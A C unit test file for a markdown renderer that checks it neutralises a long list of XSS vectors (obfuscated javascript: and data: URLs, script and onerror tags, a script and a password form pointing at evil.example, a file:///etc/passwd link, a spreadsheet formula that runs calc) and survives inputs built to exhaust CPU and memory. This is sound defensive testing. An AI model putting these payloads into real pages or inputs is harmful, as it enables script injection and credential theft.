/* tests/unit/test_markdown_hostile.c - texts that were written to harm. */
#include "config.h"
#include "core/web/markdown.h"
#include "tests/unit/markdown_fixture.h"

#include <time.h>

/* None of these may become a link to elsewhere, or an element. */
static const char *const vectors[] = {
	"[a](javascript:alert(1))",
	"[a](JaVaScRiPt:alert(1))",
	"[a](<javascript:alert(1)>)",
	"[a]( javascript:alert(1))",
	"[a](<\tjavascript:alert(1)>)",
	"[a](java\tscript:alert(1))",
	"[a](<java\tscript:alert(1)>)",
	"[a](<java\nscript:alert(1)>)",
	"[a](java&#10;script:alert(1))",
	"[a](java&#x0a;script:alert(1))",
	"[a](java&Tab;script:alert(1))",
	"[a](java&NewLine;script:alert(1))",
	"[a](javascript&colon;alert(1))",
	"[a](javascript&#58;alert(1))",
	"[a](javascript&#x3A;alert(1))",
	"[a](javascript&#x3a;alert&#40;1&#41;)",
	"[a](&#106;&#97;&#118;&#97;script:alert(1))",
	"[a](&#x6A&#x61&#x76&#x61script:alert(1))",
	"[a](javascript%3Aalert(1))",
	"[a](%6aavascript:alert(1))",
	"[a](javascript\\:alert(1))",
	"[a](\\javascript:alert(1))",
	"[a](&#1;javascript:alert(1))",
	"[a](\x01javascript:alert(1))",
	"[a](\xc2\xa0javascript:alert(1))",
	"[a](\xe2\x80\x8bjavascript:alert(1))",
	"[a](\xef\xbb\xbfjavascript:alert(1))",
	"[a](javascript://x.org/%0aalert(1))",
	"[a](javascript:https://x.org)",
	"[a](view-source:javascript:alert(1))",
	"[a](feed:javascript:alert(1))",
	"[a](jar:https://x.org!/)",
	"[a](vbscript:msgbox(1))",
	"[a](VBSCRIPT:msgbox(1))",
	"[a](livescript:x)",
	"[a](mocha:x)",
	"[a](data:text/html,<script>alert(1)</script>)",
	"[a](<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>)",
	"![a](data:image/svg+xml,<svg/onload=alert(1)>)",
	"![a](javascript:alert(1))",
	"![a\" onerror=\"alert(1)](https://x.org/a.png)",
	"![a](https://x.org/a.png\"onerror=\"alert(1))",
	"![a](https://x.org/a.png 'x\" onerror=\"alert(1)')",
	"![a](https://x.org/a.png (x\" onerror=alert`1`))",
	"[a](file:///etc/passwd)",
	"[a](ftp://x.org)",
	"[a](blob:https://x.org/1)",
	"[a](about:blank)",
	"[a](intent://x#Intent;end)",
	"[a](ms-msdt:/id)",
	"[a](//evil.example)",
	"[a](\\\\evil.example)",
	"[a](/\\evil.example)",
	"[a](https:evil.example)",
	"[a](https:/evil.example)",
	"[a](https:///evil.example)",
	"[a](https:\\\\evil.example)",
	"[a](https://x.org\\@evil.example)",
	"[a](https://x.org@evil.example)",
	"[a](https&#58;//x.org&#64;evil.example)",
	"[a](https://)",
	"[a](https://?x)",
	"[a](http://:80)",
	"[a](mailto:)",
	"[a](mailto:a@x.org\r\nBcc: b@x.org)",
	"[a](<mailto:a@x.org&#13;&#10;Bcc: b@x.org>)",
	"[a](#onclick)",
	"[a](?x)",
	"[a](https://x.org/'onclick='alert(1))",
	"[a](https://x.org/`onclick=alert(1)`)",
	"[a](https://x.org/<script>alert(1)</script>)",
	"[a](https://x.org/&quot;&gt;&lt;script&gt;)",
	"[a](https://x.org '\"><script>alert(1)</script>')",
	"[a](https://x.org '&quot;><script>alert(1)</script>')",
	"[a](https://x.org '\n\nonclick=alert(1)')",
	"[<script>alert(1)</script>](https://x.org)",
	"[a<b onclick=x>](https://x.org)",
	"[![a](javascript:alert(1))](javascript:alert(2))",
	"[[a](javascript:alert(1))](javascript:alert(2))",
	"[[[[a](https://x.org)](https://y.org)](https://z.org)](javascript:x)",
	"[a](javascript:alert(1)//[b](https://x.org)",
	"[a](https://x.org)<b>(javascript:x)",
	"[a][b]\n\n[b]: javascript:alert(1)",
	"[a][b]\n\n[b]: <javascript:alert(1)> \"x\"",
	"[a]\n\n[a]:\n javascript:alert(1)",
	"[a][b]\n\n[b]: https://x.org '\" onclick=\"x'",
	"<javascript:alert(1)>",
	"<JAVASCRIPT:alert(1)>",
	"<vbscript:x>",
	"<data:text/html,x>",
	"<https://x.org/\"onclick=\"x>",
	"<https://x.org/' onclick='x>",
	"<https://x.org\\@evil.example>",
	"<a@x.org\"onclick=\"x>",
	"https://x.org/\"onclick=\"alert(1)",
	"https://x.org/'onclick='alert(1)",
	"https://x.org/<script>alert(1)</script>",
	"https://x.org/&quot;onclick=x",
	"https://x.org@evil.example",
	"javascript://x.org/%0aalert(1)",
	"xhttps://x.org",
	"www.x.org/\"onclick=\"alert(1)",
	"\"onclick=\"@x.org",
	"a@x.org\"onclick=\"x",
	"a@x.org?subject=<script>",
	"<script>alert(1)</script>",
	"<ScRiPt src=//evil.example></sCrIpT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
	"<svg><script>alert(1)</script></svg>",
	"<svg/onload=alert(1)>",
	"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
	"<iframe src=javascript:alert(1)>",
	"<iframe srcdoc='<script>alert(1)</script>'>",
	"<object data=x><embed src=x>",
	"<form action=//evil.example><input name=password>",
	"<base href=//evil.example>",
	"<meta http-equiv=refresh content=0;url=//evil.example>",
	"<link rel=stylesheet href=//evil.example>",
	"<style>@import '//evil.example'</style>",
	"<p style=\"background:url(javascript:x)\">",
	"<a href=\"javascript:alert(1)\">a</a>",
	"<a\nhref=\"javascript:alert(1)\"\n>a</a>",
	"<details open ontoggle=alert(1)>",
	"<template><script>x</script></template>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<textarea></textarea><script>alert(1)</script>",
	"<!--><script>alert(1)</script>-->",
	"<!-- --!><script>alert(1)</script>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?php echo 1 ?>",
	"<?xml-stylesheet href=x?>",
	"<!DOCTYPE html [<!ENTITY x \"y\">]>",
	"</p></div></body><script>alert(1)</script>",
	"<div>\n<script>alert(1)</script>\n</div>\n\n*a*",
	"<pre>\n</pre><script>alert(1)</script>",
	"`<script>alert(1)</script>`",
	"``</code><script>alert(1)</script>``",
	"```\n</code></pre><script>alert(1)</script>\n```",
	"```\" onclick=\"alert(1)\nx\n```",
	"```js <script>\nx\n```",
	"~~~ &quot;><script>\nx\n~~~",
	"    </code></pre><script>alert(1)</script>",
	"# <script>alert(1)</script>",
	"# a {onclick=alert(1)}",
	"> <script>alert(1)</script>",
	"- <script>alert(1)</script>",
	"99999999999. a\n999999999. b",
	"|a|\n|---|\n|<script>alert(1)</script>|",
	"|<script>|\n|:-\"onclick=x|\n|b|",
	"| [a](javascript:x) |\n|---|\n| <https://x.org/\"> |",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"&#x3c;script&#x3e;",
	"&#X3C;script&#X3E;",
	"&LT;script&GT;",
	"&#0000060script>",
	"&#38;lt;script&#38;gt;",
	"&amp;lt;script&amp;gt;",
	"&#0;&#xD800;&#xFFFFFFFF;&#99999999999;&#x110000;",
	"&#x202e;&#x2066;&#xfeff;&#x1f;&#x7f;&#x85;",
	"\\<script>alert(1)\\</script>",
	"*<script>*alert(1)*</script>*",
	"<*script*>",
	"**[a](javascript:x)** _[b](data:x)_ ~~[c](vbscript:x)~~",
	"[*a](javascript:x)*",
	"\xff\xfe<script>\xc0\xbcscript\xc0\xbe",
	"\xe0\x80\xbcscript>\xf8\x80\x80\x80\xbc",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\xef\xbc\x9cscript\xef\xbc\x9e",
	"<\xcc\xb8script>",
	"\xe2\x80\xa8<script>\xe2\x80\xa9",
	"\x0b\x0c<script>\x08\x7f",
	"\x1b]8;;javascript:x\x1b\\a\x1b]8;;\x1b\\",
	"{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
	"[a]: <script>alert(1)</script>",
	"[^1]\n\n[^1]: <script>alert(1)</script>",
	"[[javascript:alert(1)]] $$<script>$$ ==<script>==",
	"=cmd|' /C calc'!A0",
};

static void
test_markdown_render__lets_no_vector_through(void)
{
	static render_fn *const renderers[] = { markdown_render, text_render };

	for (size_t i = 0; i < sizeof vectors / sizeof *vectors; i++)
		for (size_t k = 0; k < 2; k++) {
			struct buf out = BUF_INIT;
			struct safe_html judge;

			CHECK(
			    renderers[k](&out, bytes_of(vectors[i])) == ERR_OK);
			check_safe(buf_get(&out), &judge);
			buf_release(&out);
		}
}

/* Each vector in front of and behind each other. */
static void
test_markdown_render__lets_no_pair_of_vectors_through(void)
{
	size_t count = sizeof vectors / sizeof *vectors;
	struct buf source = BUF_INIT, out = BUF_INIT;
	struct safe_html judge;
	int bad = 0;

	for (size_t i = 0; i < count * count; i++) {
		buf_clear(&source);
		buf_clear(&out);
		buf_text(&source, vectors[i / count]);
		buf_text(&source, i % 2 != 0 ? "\n" : "");
		buf_text(&source, vectors[i % count]);
		if (markdown_render(&out, buf_get(&source)) != ERR_OK ||
		    safe_html_fault(&judge, buf_get(&out)) != NULL) {
			printf("# %.*s\n", BYTES_ARG(buf_get(&source)));
			bad++;
		}
	}
	CHECK_INT(bad, 0);
	buf_release(&source);
	buf_release(&out);
}

/* ---- hostile sizes ---- */

/* A text of <size> bytes: <first>, then <unit> over and over, then <last>. */
static const struct hostile {
	const char *name, *first, *unit, *last;
	size_t size;
	bool is_plain; /* over a limit: shown as plain text */
} hostile[] = {
	{ "brackets", "", "[", "", 100000, false },
	{ "pairs of brackets", "", "[]", "", 200000, false },
	{ "nested links", "", "[a](", "", 200000, false },
	{ "open addresses", "", "[a](<b", "", 200000, false },
	{ "open titles", "", "[a](b \"", "", 200000, false },
	{ "open titles of another sort", "", "[a](b 'c ", "\"", 200000, false },
	{ "pictures", "", "![", "", 200000, false },
	{ "pictures in pictures", "![![![![![![![", "](b)", "", 200000, false },
	{ "emphasis", "", "*a **a ", "", 200000, false },
	{ "emphasis that opens", "", "a**b", "c* ", 200000, false },
	{ "emphasis that closes", "", "a_ ", "", 200000, false },
	{ "mixed emphasis", "", "*_**__", "a", 200000, false },
	{ "emphasis in emphasis", "", "**x *y ", "", 200000, false },
	{ "strikes", "", "~~a ", "", 200000, false },
	{ "back-ticks", "", "`a``b```c````d", "", 200000, false },
	{ "lines of back-ticks", "", "```a`\n", "", 200000, false },
	{ "entities", "", "&a", ";", 200000, false },
	{ "long entities", "", "&#x00041;", "", 200000, false },
	{ "angles", "", "<", "", 200000, false },
	{ "open autolinks", "", "<a:", "", 200000, false },
	{ "open mail addresses", "", "<a@", "", 200000, false },
	{ "open comments", "", "<!--", "", 200000, false },
	{ "open instructions", "", "<?", "", 200000, false },
	{ "open tags", "", "<a b='", "", 200000, false },
	{ "at signs", "", "a@a", "", 200000, false },
	{ "mail addresses", "", "a@b.cc ", "", 200000, false },
	{ "long mail names", "", "a.", "@b", 200000, false },
	{ "schemes", "", "http:", "", 200000, false },
	{ "empty schemes", "", "http://", "", 200000, false },
	{ "www", "", "www.", "", 200000, false },
	{ "links", "", "http://a.b ", "", 256000, false },
	{ "links to be escaped", "https://a.b/", "&", "", 1900, false },
	{ "a long link", "https://a.b/", "a", "", 200000, false },
	{ "brackets in a link", "https://a.b/", "(", "", 200000, false },
	{ "brackets after a link", "https://a.b/", ")", "", 200000, false },
	{ "dots after a link", "https://a.b/", ".", "", 200000, false },
	{ "quotes in quotes", "", ">", " a", 10000, true },
	{ "quotes with blanks", "", "> ", "a", 20000, true },
	{ "quotes of one line", "> a\n", "b\n", "", 200000, false },
	{ "lists in lists", "", "- ", "a", 20000, true },
	{ "mixed lists", "", "1. - > * ", "a", 20000, true },
	{ "numbers", "", "1. a\n", "", 200000, false },
	{ "blank items", "", "-\n", "", 200000, false },
	{ "blank items between lines", "", "-\n\n", "", 200000, false },
	{ "tabs", "", "\t", "a", 200000, false },
	{ "indentation", "a\n", " ", "- a", 200000, false },
	{ "lines", "", "\n", "", 200000, false },
	{ "lines of one letter", "", "a\n", "", 200000, false },
	{ "paragraphs", "", "a\n\n", "", 200000, false },
	{ "headings", "", "# \n", "", 200000, false },
	{ "hashes", "", "#", "", 200000, false },
	{ "rules", "", "---\n\n", "", 200000, false },
	{ "a rule that is none", "", "- ", "x", 64, false },
	{ "underlines", "", "a\n=\n", "", 200000, false },
	{ "pipes", "a\n", "|", "", 200000, false },
	{ "rows of pipes", "|a|\n|---|\n", "|||||||\n", "", 65536, true },
	{ "references", "", "[a]: b\n", "", 200000, false },
	{ "open references", "", "[a]: b \"\n", "", 200000, false },
	{ "long labels", "", "[aaaaaaaaaaaaaaaaaaaaaaaaaa\\]", "]", 200000,
	    false },
	{ "NULs", NULL, NULL, NULL, 200000, false },
	{ "quotation marks", "", "\"", "", 256000, false },
};

static void
fill(struct buf *source, const struct hostile *h)
{
	buf_clear(source);
	if (h->unit == NULL) {
		while (source->len < h->size)
			buf_char(source, '\0');
		return;
	}
	buf_text(source, h->first);
	while (source->len < h->size)
		buf_text(source, h->unit);
	buf_text(source, h->last);
}

static double
cpu_seconds(void)
{
	struct timespec t;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Of processor time; sanitizers and a busy machine take their share. */
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
#define SECONDS_MAX 60
#else
#define SECONDS_MAX 10
#endif

/* What takes n * n steps takes minutes here, what takes n some milliseconds,
 * so that a limit of seconds is not a question of the machine. */
static void
check_hostile(struct bytes source, const char *name, bool is_plain)
{
	struct buf out = BUF_INIT, plain = BUF_INIT, line = BUF_INIT;
	double begin = cpu_seconds(), took;
	struct safe_html judge;

	CHECK(markdown_render(&out, source) == ERR_OK);
	CHECK(text_render(&plain, source) == ERR_OK);
	CHECK(markdown_snippet(&line, source, 200) == ERR_OK);
	took = cpu_seconds() - begin;
	if (took > SECONDS_MAX)
		printf("# %s: %.1f s\n", name, took);
	CHECK(took <= SECONDS_MAX);
	CHECK(out.len <= MARKDOWN_OUTPUT_MAX);
	CHECK(plain.len <= MARKDOWN_OUTPUT_MAX);
	CHECK(line.len <= 200);
	if (bytes_equal(buf_get(&out), buf_get(&plain)) < is_plain)
		printf("# %s is not shown as plain text\n", name);
	CHECK(bytes_equal(buf_get(&out), buf_get(&plain)) >= is_plain);
	check_safe(buf_get(&out), &judge);
	CHECK(judge.cells <= MARKDOWN_CELLS_MAX);
	check_safe(buf_get(&plain), &judge);
	buf_release(&out);
	buf_release(&plain);
	buf_release(&line);
}

static void
test_markdown_render__takes_hostile_texts(void)
{
	struct buf source = BUF_INIT;

	for (size_t i = 0; i < sizeof hostile / sizeof *hostile; i++) {
		fill(&source, &hostile[i]);
		check_hostile(
		    buf_get(&source), hostile[i].name, hostile[i].is_plain);
	}
	buf_release(&source);
}

static void
test_markdown_render__takes_hostile_shapes(void)
{
	struct buf source = BUF_INIT;

	/* n columns, n rows: n * n cells of n bytes. */
	for (int i = 0; i < 10000; i++)
		buf_text(&source, "|a");
	buf_text(&source, "\n");
	for (int i = 0; i < 10000; i++)
		buf_text(&source, "|---");
	for (int i = 0; i < 10000; i++)
		buf_text(&source, "\n|");
	check_hostile(buf_get(&source), "a table", true);

	/* The same in many small tables. */
	buf_clear(&source);
	for (int i = 0; i < 3000; i++)
		buf_text(&source, "|a|b|\n|---|---|\n\n");
	check_hostile(buf_get(&source), "many tables", true);

	/* Lists in lists, a level a line, and then blank lines. */
	buf_clear(&source);
	for (int i = 0; i < 500; i++) {
		for (int k = 0; k < i; k++)
			buf_char(&source, '\t');
		buf_text(&source, "- a\n");
	}
	for (int i = 0; i < 120000; i++)
		buf_char(&source, '\n');
	check_hostile(buf_get(&source), "a staircase", true);

	/* One long address, used very often. */
	buf_clear(&source);
	buf_text(&source, "[a]: https://x.org/");
	for (int i = 0; i < 1900; i++)
		buf_char(&source, 'x');
	buf_text(&source, "\n\n");
	for (int i = 0; i < 50000; i++)
		buf_text(&source, "[a] ");
	check_hostile(buf_get(&source), "a reference", true);

	/* Many references, all looked for. */
	buf_clear(&source);
	for (int i = 0; i < 9000; i++)
		buf_printf(&source, "[%d]: b\n", i);
	buf_char(&source, '\n');
	for (int i = 0; i < 12000; i++)
		buf_printf(&source, "[%d] ", i);
	check_hostile(buf_get(&source), "references", false);

	/* Quotes, as deep as is allowed, whose lines go on. */
	buf_clear(&source);
	for (int i = 0; i < MARKDOWN_DEPTH_MAX - 1; i++)
		buf_char(&source, '>');
	for (int i = 0; i < 100000; i++)
		buf_text(&source, "a\n");
	check_hostile(buf_get(&source), "lazy quotes", false);

	/* Links of plain text that become six times as long, twice. */
	buf_clear(&source);
	while (source.len < MARKDOWN_SOURCE_MAX - 2000) {
		buf_text(&source, "http://a/");
		for (int i = 0; i < 1900; i++)
			buf_char(&source, '\'' - i % 2);
		buf_text(&source, "a ");
	}
	check_hostile(buf_get(&source), "escaped links", true);
	buf_release(&source);
}

int
main(void)
{
	RUN(test_markdown_render__lets_no_vector_through);
	RUN(test_markdown_render__lets_no_pair_of_vectors_through);
	RUN(test_markdown_render__takes_hostile_texts);
	RUN(test_markdown_render__takes_hostile_shapes);
	return tap_done();
}
